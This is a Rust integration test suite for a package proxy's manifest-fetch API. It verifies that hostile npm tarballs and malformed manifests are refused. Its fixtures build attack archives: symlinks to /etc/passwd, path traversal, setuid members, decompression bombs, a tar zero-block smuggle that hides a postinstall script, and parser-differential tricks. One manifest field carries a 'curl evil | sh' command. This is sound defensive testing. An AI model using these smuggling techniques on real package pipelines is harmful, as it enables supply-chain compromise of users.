//! LOVE end to end over loopback: manifests, indexes and tarballs built in the test, served by
//! an upstream the test controls, fetched through the real proxy's `/love/v1/fetch` API.
//! Covers the §7 failure table row by row, hostile archives, failover and conflicts.

use crate::support;

use std::collections::HashMap;
use std::sync::{Arc, Mutex};

use fetchgate::store::Digest;
use serde_json::{Value, json};
use support::config::Toml;
use support::proxy::{Client, Got, start_proxy};
use support::tarball::{Member, good, gzip, header_with_size, package_json, tar_blocks, tgz};
use support::upstream::{Reply, Routes, Upstream};

const NAME: &str = "@fg/demo";
const VERSION: &str = "1.0.0";

struct Site {
    up: Upstream,
    routes: Routes,
    proxy: std::net::SocketAddr,
    _dir: tempfile::TempDir,
}

impl Site {
    async fn start(extra_config: &str) -> Self {
        Self::start_with_love("", extra_config).await
    }

    /// Like [`Site::start`], with more `[love]` settings.
    async fn start_with_love(love: &str, extra_config: &str) -> Self {
        let routes: Routes = Arc::new(Mutex::new(HashMap::new()));
        let up = Upstream::router("127.0.0.2:0", routes.clone()).await;
        let dir = tempfile::tempdir().unwrap();
        let love = format!(
            "max_members = 1000\nmax_member_bytes = 1048576\nmax_expanded_bytes = 8388608\n{love}"
        );
        let cfg = Toml::new()
            .cache_dir(dir.path())
            .section("love", &love)
            .trust(up.addr)
            .raw(extra_config)
            .build();
        let proxy = start_proxy(&cfg).await;
        Self {
            up,
            routes,
            proxy,
            _dir: dir,
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://127.0.0.2:{}{path}", self.up.addr.port())
    }

    fn serve(&self, path: &str, body: impl Into<bytes::Bytes>) {
        self.routes
            .lock()
            .unwrap()
            .insert(path.to_string(), Reply::ok(body));
    }

    fn serve_reply(&self, path: &str, reply: Reply) {
        self.routes.lock().unwrap().insert(path.to_string(), reply);
    }

    /// Serves `artifact` at `path` and returns a manifest for it naming `mirrors` (paths).
    fn manifest_for(&self, artifact: &[u8], mirrors: &[&str]) -> Value {
        let urls: Vec<String> = mirrors.iter().map(|m| self.url(m)).collect();
        json!({
            "protocol": "love-package/v1",
            "document_type": "package-manifest",
            "name": NAME,
            "version": VERSION,
            "description": "A demo package",
            "license": "MIT",
            "artifact": {
                "format": "npm-tarball",
                "filename": "fg-demo-1.0.0.tgz",
                "sha256": Digest::of(artifact).hex(),
                "size": artifact.len(),
                "media_type": "application/gzip",
                "mirrors": urls.iter().map(|u| json!({ "url": u })).collect::<Vec<_>>(),
            },
            "runtime": { "kind": "javascript", "engines": { "node": ">=20" } },
            "install": { "format": "npm-tarball", "specifier": urls[0] },
            "source": {
                "repository": "https://example.invalid/fg/demo.git",
                "revision": "0123456789abcdef0123456789abcdef01234567",
                "path": "packages/demo"
            },
            "dependency_resolution": { "mode": "package_manifest", "self_contained": true }
        })
    }

    async fn love_fetch(&self, manifest_path: &str, params: &str) -> Got {
        let manifest = url::form_urlencoded::byte_serialize(self.url(manifest_path).as_bytes())
            .collect::<String>();
        Client::connect(self.proxy)
            .await
            .send(
                "GET",
                &format!("/love/v1/fetch?manifest={manifest}{params}"),
                &[("host", "localhost")],
            )
            .await
    }

    /// Serves `artifact` under a manifest named `label`, fetches it through LOVE, and asserts
    /// it is refused with `422 code`, naming a field and a safe next step, and never published.
    async fn assert_refused_unpublished(&self, label: &str, artifact: &[u8], code: &str) {
        let path = format!("/{label}.tgz");
        self.serve(&path, artifact.to_vec());
        let m = self.manifest_for(artifact, &[&path]);
        self.serve(&format!("/{label}.json"), m.to_string());
        let got = self.love_fetch(&format!("/{label}.json"), "").await;
        assert_eq!(
            got.status,
            422,
            "{label}: {}",
            String::from_utf8_lossy(&got.body)
        );
        let j = body(&got);
        assert_eq!(j["code"], code, "{label}: {j}");
        assert!(
            j["field"].is_string(),
            "{label}: the error names the member or cap: {j}"
        );
        assert!(!j["next"].as_str().unwrap().contains("disable"), "{label}");
        let cached = self.cached(&Digest::of(artifact).hex()).await;
        assert_eq!(
            cached.status, 404,
            "{label}: a hostile artifact was published"
        );
    }

    async fn cached(&self, sha: &str) -> Got {
        Client::connect(self.proxy)
            .await
            .send("GET", &format!("/sha256/{sha}"), &[("host", "localhost")])
            .await
    }
}

fn body(got: &Got) -> Value {
    serde_json::from_slice(&got.body)
        .unwrap_or_else(|_| panic!("JSON: {}", String::from_utf8_lossy(&got.body)))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_good_package_is_verified_inspected_published_and_labelled() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    site.serve("/pkg.tgz", artifact.clone());
    let m = site.manifest_for(&artifact, &["/pkg.tgz"]);
    site.serve("/m.json", m.to_string());
    let got = site.love_fetch("/m.json", "&engine=node=20.11.0").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));
    let r = body(&got);
    assert_eq!(r["name"], NAME);
    assert_eq!(r["sha256"], Digest::of(&artifact).hex());
    assert_eq!(r["engine"]["status"], "compatible");
    assert_eq!(r["provenance"]["status"], "unverified");
    assert_eq!(r["inspection"]["files"], 3);
    let served = site.cached(&Digest::of(&artifact).hex()).await;
    assert_eq!(served.status, 200);
    assert_eq!(served.body.as_ref(), artifact.as_slice());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_archives_are_refused_by_name_and_nothing_is_published() {
    let site = Site::start("").await;
    let base = || good(NAME, VERSION);
    let with = |extra: Member| {
        let mut m = base();
        m.push(extra);
        m
    };
    let many: Vec<Member> = {
        let mut m = base();
        for i in 0..1200 {
            m.push(Member::file(&format!("package/f{i}.js"), "x"));
        }
        m
    };
    let cases: Vec<(&str, Vec<Member>, &str)> = vec![
        (
            "symlink",
            with(Member::symlink("package/evil", "/etc/passwd")),
            "archive_member_type",
        ),
        (
            "hardlink",
            with(Member::hardlink("package/evil", "package/index.js")),
            "archive_member_type",
        ),
        (
            "dotdot",
            with(Member::file("package/../../evil.js", "x")),
            "archive_path",
        ),
        (
            "absolute",
            with(Member::file("/etc/evil", "x")),
            "archive_path",
        ),
        (
            "outside",
            with(Member::file("other/x.js", "x")),
            "archive_path",
        ),
        (
            "pax",
            with(Member::pax(
                "package/PaxHeader",
                "30 path=package/../../evil\n",
            )),
            "archive_member_type",
        ),
        (
            "setuid",
            with(Member::file("package/run.sh", "#!/bin/sh\n").with_mode(0o4755)),
            "archive_setuid",
        ),
        (
            "two-package-json",
            with(package_json(NAME, VERSION)),
            "archive_duplicate",
        ),
        (
            "case-collision",
            with(Member::file("package/Index.js", "x")),
            "archive_collision",
        ),
        (
            "name-mismatch",
            vec![package_json("@fg/other", VERSION)],
            "package_identity_mismatch",
        ),
        (
            "version-mismatch",
            vec![package_json(NAME, "9.9.9")],
            "package_identity_mismatch",
        ),
        (
            "no-package-json",
            vec![Member::file("package/index.js", "x")],
            "package_json_missing",
        ),
        (
            "oversized-member",
            with(Member::file("package/big.bin", vec![7u8; 2 << 20])),
            "archive_cap_exceeded",
        ),
        ("member-count-bomb", many, "archive_cap_exceeded"),
        (
            "gzip-bomb",
            with(Member::file("package/zeros.bin", vec![0u8; 1 << 20]).clone())
                .into_iter()
                .chain(
                    (0..12).map(|i| Member::file(&format!("package/z{i}.bin"), vec![0u8; 1 << 20])),
                )
                .collect(),
            "archive_cap_exceeded",
        ),
    ];
    for (label, members, code) in cases {
        site.assert_refused_unpublished(label, &tgz(&members), code)
            .await;
    }
}

/// The attack from the outside review: a valid package, one zero block, then a second
/// `package/package.json` (another name, a `postinstall`) and a setuid file. A reader that
/// stops at the first zero block sees the first package; npm reads on and installs the second.
fn zero_block_smuggle() -> Vec<u8> {
    let mut tar = tar_blocks(&good(NAME, VERSION));
    tar.extend_from_slice(&[0u8; 512]);
    tar.extend_from_slice(&tar_blocks(&[
        Member::file(
            "package/package.json",
            r#"{"name":"evil","version":"6.6.6","scripts":{"postinstall":"node evil.js"}}"#,
        ),
        Member::file("package/evil.js", "require('child_process')").with_mode(0o4755),
    ]));
    tar.extend_from_slice(&[0u8; 1024]);
    gzip(&tar)
}

/// Archives that one reader parses differently from another: each is refused with its code
/// and never published, whatever the first reader saw.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn archives_that_npm_reads_differently_are_refused_and_never_published() {
    let site = Site::start("").await;
    let plain = || tar_blocks(&good(NAME, VERSION));
    let ended = || {
        let mut t = plain();
        t.extend_from_slice(&[0u8; 1024]);
        t
    };
    let with = |extra: Vec<Member>| {
        let mut m = good(NAME, VERSION);
        m.extend(extra);
        tgz(&m)
    };
    let cases: Vec<(&str, Vec<u8>, &str)> = vec![
        (
            "zero-block-smuggle",
            zero_block_smuggle(),
            "archive_entry_after_end",
        ),
        (
            "trailing-garbage",
            {
                let mut t = ended();
                t.extend_from_slice(b"not zero at all");
                t.resize(t.len().div_ceil(512) * 512, 0);
                gzip(&t)
            },
            "archive_trailing_data",
        ),
        (
            "second-gzip-member",
            {
                let mut g = gzip(&ended());
                g.extend(gzip(&tar_blocks(&[Member::file("package/evil.js", "x")])));
                g
            },
            "archive_trailing_gzip_member",
        ),
        (
            "bytes-after-gzip",
            {
                let mut g = gzip(&ended());
                g.extend_from_slice(b"trailer");
                g
            },
            "archive_trailing_data",
        ),
        (
            "directory-with-data",
            {
                // node-tar reads a directory's size as 0, so the "data" is parsed as entries.
                let hidden = tar_blocks(&[Member::file("package/evil.js", "x").with_mode(0o4755)]);
                let mut t = plain();
                t.extend(header_with_size("package/d/", b'5', hidden.len() as u64));
                t.extend(hidden);
                t.extend_from_slice(&[0u8; 1024]);
                gzip(&t)
            },
            "archive_ambiguous",
        ),
        (
            "final-sigma",
            with(vec![
                Member::file("package/σ.js", "a"),
                Member::file("package/ς.js", "b"),
            ]),
            "archive_collision",
        ),
        (
            "long-s",
            with(vec![
                Member::file("package/s.js", "a"),
                Member::file("package/ſ.js", "b"),
            ]),
            "archive_collision",
        ),
        (
            "file-then-directory-of-same-folded-name",
            with(vec![
                Member::file("package/Lib2", "a"),
                Member::file("package/lib2/x.js", "b"),
            ]),
            "archive_collision",
        ),
    ];
    for (label, artifact, code) in cases {
        site.assert_refused_unpublished(label, &artifact, code)
            .await;
    }
    // The directory-merging twin: two spellings of one directory are not a collision.
    let fine = with(vec![
        Member::file("package/Docs/a.md", "a"),
        Member::file("package/docs/b.md", "b"),
    ]);
    site.serve("/fine.tgz", fine.clone());
    let m = site.manifest_for(&fine, &["/fine.tgz"]);
    site.serve("/fine.json", m.to_string());
    let got = site.love_fetch("/fine.json", "").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mirror_failover_verifies_from_the_second_and_names_the_first() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    let mut other = tgz(&good(NAME, VERSION));
    other.push(0); // different bytes
    site.serve("/bad.tgz", other);
    site.serve("/good.tgz", artifact.clone());
    let m = site.manifest_for(&artifact, &["/bad.tgz", "/good.tgz"]);
    site.serve("/m.json", m.to_string());
    let got = site.love_fetch("/m.json", "").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));
    let r = body(&got);
    assert_eq!(r["verified_from"], site.url("/good.tgz"));
    assert_eq!(r["mirror_failures"][0]["locator"], site.url("/bad.tgz"));
    assert_eq!(r["mirror_failures"][0]["code"], "size_mismatch");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unknown_fields_are_ignored_and_other_protocols_refused() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    site.serve("/pkg.tgz", artifact.clone());
    let mut m = site.manifest_for(&artifact, &["/pkg.tgz"]);
    m["x_vendor_signature"] = json!({ "alg": "none", "sig": "AAAA" });
    m["artifact"]["x_extra"] = json!([1, 2, 3]);
    m["artifact"]["mirrors"][0]["x_region"] = json!("eu");
    m["install"]["x_postinstall"] = json!("curl evil | sh");
    site.serve("/unknown.json", m.to_string());
    let got = site.love_fetch("/unknown.json", "").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));

    let mut v2 = site.manifest_for(&artifact, &["/pkg.tgz"]);
    v2["protocol"] = json!("love-package/v2");
    site.serve("/v2.json", v2.to_string());
    let got = site.love_fetch("/v2.json", "").await;
    assert_eq!(got.status, 400);
    let j = body(&got);
    assert_eq!(j["code"], "unsupported_protocol");
    assert_eq!(j["field"], "/protocol");

    let mut idx = site.manifest_for(&artifact, &["/pkg.tgz"]);
    idx["document_type"] = json!("package-index");
    site.serve("/wrongtype.json", idx.to_string());
    let got = site.love_fetch("/wrongtype.json", "").await;
    assert_eq!(body(&got)["code"], "wrong_document_type");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_digests_for_one_name_and_version_conflict_until_pinned() {
    let site = Site::start("").await;
    let first = tgz(&good(NAME, VERSION));
    let mut members = good(NAME, VERSION);
    members.push(Member::file("package/extra.js", "changed"));
    let second = tgz(&members);
    site.serve("/a.tgz", first.clone());
    site.serve("/b.tgz", second.clone());
    site.serve(
        "/a.json",
        site.manifest_for(&first, &["/a.tgz"]).to_string(),
    );
    site.serve(
        "/b.json",
        site.manifest_for(&second, &["/b.tgz"]).to_string(),
    );
    assert_eq!(site.love_fetch("/a.json", "").await.status, 200);
    let got = site.love_fetch("/b.json", "").await;
    assert_eq!(got.status, 409);
    let j = body(&got);
    assert_eq!(j["code"], "digest_conflict");
    let detail = j["detail"].as_str().unwrap();
    assert!(
        detail.contains(&Digest::of(&first).hex()) && detail.contains(&Digest::of(&second).hex()),
        "{detail}"
    );
    assert_eq!(
        j["conflict"]["seen"][0]["manifest_url"],
        site.url("/a.json")
    );
    assert_eq!(
        site.cached(&Digest::of(&second).hex()).await.status,
        404,
        "nothing published on conflict"
    );
    let got = site
        .love_fetch("/b.json", &format!("&pin={}", Digest::of(&second).hex()))
        .await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));
    let got = Client::connect(site.proxy)
        .await
        .send("GET", "/love/v1/conflicts", &[("host", "localhost")])
        .await;
    let j = body(&got);
    assert_eq!(j["conflicts"][0]["name"], NAME);
    assert_eq!(j["conflicts"][0]["seen"].as_array().unwrap().len(), 2);
}

/// §7, row by row, where the rows above do not already cover it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn failure_table() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    site.serve("/pkg.tgz", artifact.clone());
    let base = site.manifest_for(&artifact, &["/pkg.tgz"]);
    let case = |f: &dyn Fn(&mut Value)| {
        let mut m = base.clone();
        f(&mut m);
        m
    };
    // Each: a manifest, the expected status, code and field.
    let rows: Vec<(&str, Value, u16, &str, Option<&str>)> = vec![
        (
            "schema",
            case(&|m| {
                m.as_object_mut().unwrap().remove("description");
            }),
            400,
            "manifest_invalid",
            Some("/"),
        ),
        (
            "schema-size",
            case(&|m| m["artifact"]["size"] = json!(0)),
            400,
            "manifest_invalid",
            Some("/artifact/size"),
        ),
        (
            "schema-sha",
            case(&|m| m["artifact"]["sha256"] = json!("ABC")),
            400,
            "manifest_invalid",
            Some("/artifact/sha256"),
        ),
        (
            "schema-media",
            case(&|m| m["artifact"]["media_type"] = json!("application/x-tar")),
            400,
            "manifest_invalid",
            Some("/artifact/media_type"),
        ),
        (
            "schema-filename",
            case(&|m| m["artifact"]["filename"] = json!("../evil.tgz")),
            400,
            "manifest_invalid",
            Some("/artifact/filename"),
        ),
        (
            "specifier-not-mirror",
            case(&|m| m["install"]["specifier"] = json!("http://127.0.0.2:1/other.tgz")),
            400,
            "manifest_invalid",
            Some("/install/specifier"),
        ),
        (
            "duplicate-mirror",
            case(&|m| {
                let u = m["artifact"]["mirrors"][0].clone();
                m["artifact"]["mirrors"].as_array_mut().unwrap().push(u);
            }),
            400,
            "manifest_invalid",
            Some("/artifact/mirrors/1/url"),
        ),
        (
            "userinfo-mirror",
            case(&|m| {
                m["artifact"]["mirrors"][0]["url"] = json!("http://u:p@127.0.0.2/x.tgz");
                m["install"]["specifier"] = json!("http://u:p@127.0.0.2/x.tgz");
            }),
            400,
            "manifest_invalid",
            Some("/artifact/mirrors/0/url"),
        ),
        (
            "source-path",
            case(&|m| m["source"]["path"] = json!("packages/../../etc")),
            400,
            "manifest_invalid",
            Some("/source/path"),
        ),
        (
            "engine-incompatible",
            base.clone(),
            422,
            "engine_incompatible",
            Some("/runtime/engines/node"),
        ),
        (
            "egress-refused-mirror",
            case(&|m| {
                m["artifact"]["mirrors"][0]["url"] = json!("http://127.0.0.3/pkg.tgz");
                m["install"]["specifier"] = json!("http://127.0.0.3/pkg.tgz");
            }),
            502,
            "all_mirrors_failed",
            None,
        ),
    ];
    for (label, manifest, status, code, field) in rows {
        let path = format!("/{label}.json");
        site.serve(&path, manifest.to_string());
        let params = if label == "engine-incompatible" {
            "&engine=node=18.0.0"
        } else {
            ""
        };
        let got = site.love_fetch(&path, params).await;
        assert_eq!(
            got.status,
            status,
            "{label}: {}",
            String::from_utf8_lossy(&got.body)
        );
        let j = body(&got);
        assert_eq!(j["code"], code, "{label}: {j}");
        if let Some(f) = field {
            assert_eq!(j["field"], f, "{label}: {j}");
        }
        assert!(
            j["next"]
                .as_str()
                .is_some_and(|n| !n.is_empty() && !n.contains("disable")),
            "{label}"
        );
    }
    // Egress: the locator class is reported, credentials never echoed.
    let refused = case(&|m| {
        m["artifact"]["mirrors"][0]["url"] = json!("http://127.0.0.3/pkg.tgz?token=hunter2");
        m["install"]["specifier"] = json!("http://127.0.0.3/pkg.tgz?token=hunter2");
    });
    site.serve("/refused.json", refused.to_string());
    let got = site.love_fetch("/refused.json", "").await;
    let j = body(&got);
    assert_eq!(j["locators"][0]["code"], "loopback_address");
    assert!(!String::from_utf8_lossy(&got.body).contains("hunter2"));
    // Non-identity content coding on the artifact.
    site.serve_reply(
        "/coded.tgz",
        Reply::ok(artifact.clone()).with_header("content-encoding", "gzip"),
    );
    site.serve(
        "/coded.json",
        case(&|m| {
            m["artifact"]["mirrors"][0]["url"] = json!(site.url("/coded.tgz"));
            m["install"]["specifier"] = json!(site.url("/coded.tgz"));
        })
        .to_string(),
    );
    let j = body(&site.love_fetch("/coded.json", "").await);
    assert_eq!(j["locators"][0]["code"], "content_coding_rejected");
    // Unknown engine and engines {}: unknown, never compatible, and the fetch proceeds.
    let got = site.love_fetch("/pkg-any.json", "").await;
    assert_eq!(
        got.status,
        502,
        "a missing manifest is reported: {}",
        String::from_utf8_lossy(&got.body)
    );
    assert_eq!(body(&got)["code"], "manifest_unavailable");
    site.serve(
        "/noengines.json",
        case(&|m| m["runtime"]["engines"] = json!({})).to_string(),
    );
    let got = site
        .love_fetch("/noengines.json", "&engine=node=22.0.0")
        .await;
    assert_eq!(got.status, 200);
    assert_eq!(body(&got)["engine"]["status"], "unknown");
    let got = site
        .love_fetch("/noengines.json", "&engine=deno=2.0.0")
        .await;
    assert_eq!(body(&got)["engine"]["status"], "unknown");
    // License null: reported as unresolved.
    site.serve(
        "/nolicense.json",
        case(&|m| m["license"] = json!(null)).to_string(),
    );
    let j = body(&site.love_fetch("/nolicense.json", "").await);
    assert!(
        j["license"]["note"]
            .as_str()
            .unwrap()
            .contains("unresolved"),
        "{j}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn discovery_reads_pointer_and_index_and_nothing_else() {
    let site = Site::start("").await;
    let artifact = tgz(&good(NAME, VERSION));
    site.serve("/pkg.tgz", artifact.clone());
    site.serve(
        "/m.json",
        site.manifest_for(&artifact, &["/pkg.tgz"]).to_string(),
    );
    site.serve(
        "/.well-known/love-packages",
        json!({
            "protocol": "love-package/v1",
            "doctrine": site.url("/doctrine.md"),
            "index_url": site.url("/index.json"),
            "access": "public_read",
            "registry_role": "mirror_index_not_authority",
            "x_unknown": true
        })
        .to_string(),
    );
    site.serve(
        "/index.json",
        json!({
            "protocol": "love-package/v1",
            "document_type": "package-index",
            "packages": [{ "name": NAME, "latest": VERSION, "versions": [{ "version": VERSION, "manifest_url": site.url("/m.json") }] }]
        })
        .to_string(),
    );
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("f.toml");
    std::fs::write(&cfg, Toml::new().cache_dir("c").trust(site.up.addr).build()).unwrap();
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_fetchgate"))
        .args([
            "love",
            "discover",
            "--json",
            "--config",
            cfg.to_str().unwrap(),
            &site.url("/"),
        ])
        .output()
        .await
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let d: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(d["packages"][0]["name"], NAME);
    assert_eq!(d["packages"][0]["versions"][0][1], site.url("/m.json"));
    let paths: Vec<String> = site.up.requests().iter().map(|r| r.uri.clone()).collect();
    assert_eq!(
        paths,
        ["/.well-known/love-packages", "/index.json"],
        "discovery downloads only the documents"
    );

    // A bad index is rejected as an index (the direct manifest stays usable).
    site.serve(
        "/index.json",
        json!({
            "protocol": "love-package/v1",
            "document_type": "package-index",
            "packages": [{ "name": NAME, "latest": "2.0.0", "versions": [{ "version": VERSION, "manifest_url": site.url("/m.json") }] }]
        })
        .to_string(),
    );
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_fetchgate"))
        .args([
            "love",
            "discover",
            "--json",
            "--config",
            cfg.to_str().unwrap(),
            &site.url("/"),
        ])
        .output()
        .await
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    let e: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(e["code"], "index_invalid");
    assert_eq!(e["field"], "/packages/0/latest");
    assert_eq!(
        site.love_fetch("/m.json", "").await.status,
        200,
        "the direct manifest is still usable"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_lock_keeps_the_digest_and_a_changed_manifest_is_a_conflict() {
    let site = Site::start("").await;
    let first = tgz(&good(NAME, VERSION));
    site.serve("/a.tgz", first.clone());
    site.serve(
        "/m.json",
        site.manifest_for(&first, &["/a.tgz"]).to_string(),
    );
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("f.toml");
    std::fs::write(&cfg, Toml::new().cache_dir("c").trust(site.up.addr).build()).unwrap();
    let lock = dir.path().join("love.lock.json");
    let run = |extra: Vec<String>| {
        let mut args = vec![
            "love".to_string(),
            "fetch".into(),
            "--json".into(),
            "--config".into(),
            cfg.to_str().unwrap().into(),
            "--lock".into(),
            lock.to_str().unwrap().into(),
            site.url("/m.json"),
        ];
        args.extend(extra);
        tokio::process::Command::new(env!("CARGO_BIN_EXE_fetchgate"))
            .args(args)
            .output()
    };
    let out = run(vec![]).await.unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let l: Value = serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    let entry = &l["packages"][site.url("/m.json")];
    for k in ["manifest_url", "protocol", "name", "version"] {
        assert!(entry[k].is_string(), "{k} in {entry}");
    }
    assert_eq!(entry["artifact"]["sha256"], Digest::of(&first).hex());
    assert_eq!(entry["artifact"]["size"], first.len());
    assert_eq!(
        entry["source"]["revision"],
        "0123456789abcdef0123456789abcdef01234567"
    );

    // The manifest at the same URL now names other bytes: a conflict, not an update.
    let mut members = good(NAME, VERSION);
    members.push(Member::file("package/new.js", "new"));
    let second = tgz(&members);
    site.serve("/b.tgz", second.clone());
    site.serve(
        "/m.json",
        site.manifest_for(&second, &["/b.tgz"]).to_string(),
    );
    let out = run(vec![]).await.unwrap();
    assert_eq!(out.status.code(), Some(1));
    let e: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(e["code"], "lock_conflict");
    let l2: Value = serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    assert_eq!(l2, l, "the lock is unchanged by a refused update");
    // An explicit pin is the update.
    let out = run(vec!["--pin".into(), Digest::of(&second).hex()])
        .await
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let l3: Value = serde_json::from_str(&std::fs::read_to_string(&lock).unwrap()).unwrap();
    assert_eq!(
        l3["packages"][site.url("/m.json")]["artifact"]["sha256"],
        Digest::of(&second).hex()
    );
}

/// One request must not become thousands of fetches, nor hold unbounded memory: a manifest
/// naming more than 16 mirrors is refused before any artifact request, and an artifact larger
/// than the in-memory budget is refused by name before it is fetched.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mirror_count_and_in_memory_bytes_are_bounded() {
    let site = Site::start_with_love("max_inflight_bytes = 65536\n", "").await;
    let small = tgz(&good(NAME, VERSION));
    let paths: Vec<String> = (0..17).map(|i| format!("/m{i}.tgz")).collect();
    let refs: Vec<&str> = paths.iter().map(String::as_str).collect();
    site.serve("/many.json", site.manifest_for(&small, &refs).to_string());
    let got = site.love_fetch("/many.json", "").await;
    assert_eq!(got.status, 400, "{}", String::from_utf8_lossy(&got.body));
    let j = body(&got);
    assert_eq!(j["code"], "too_many_mirrors", "{j}");
    assert_eq!(j["field"], "/artifact/mirrors");

    // 16 is still fine.
    site.serve("/m0.tgz", small.clone());
    site.serve(
        "/sixteen.json",
        site.manifest_for(&small, &refs[..16]).to_string(),
    );
    let got = site.love_fetch("/sixteen.json", "").await;
    assert_eq!(got.status, 200, "{}", String::from_utf8_lossy(&got.body));

    let big = tgz(&{
        let mut m = good(NAME, VERSION);
        m.push(Member::file("package/noise.bin", pattern(200_000)));
        m
    });
    assert!(big.len() > 65536, "the fixture is larger than the budget");
    site.serve("/big.tgz", big.clone());
    site.serve(
        "/big.json",
        site.manifest_for(&big, &["/big.tgz"]).to_string(),
    );
    // Pinned: the same name and version was seen with another digest just above.
    let pin = format!("&pin={}", Digest::of(&big).hex());
    let got = site.love_fetch("/big.json", &pin).await;
    assert_eq!(got.status, 422, "{}", String::from_utf8_lossy(&got.body));
    let j = body(&got);
    assert_eq!(j["code"], "archive_cap_exceeded", "{j}");
    assert_eq!(j["field"], "max_inflight_bytes");
    let asked: Vec<String> = site.up.requests().iter().map(|r| r.uri.clone()).collect();
    assert!(
        !asked.iter().any(|u| u == "/big.tgz" || u == "/m1.tgz"),
        "refused before fetching: {asked:?}"
    );
}

/// Incompressible bytes, so the tarball really is as large as its content.
fn pattern(n: usize) -> Vec<u8> {
    let mut x: u32 = 0x9e37_79b9;
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            x as u8
        })
        .collect()
}
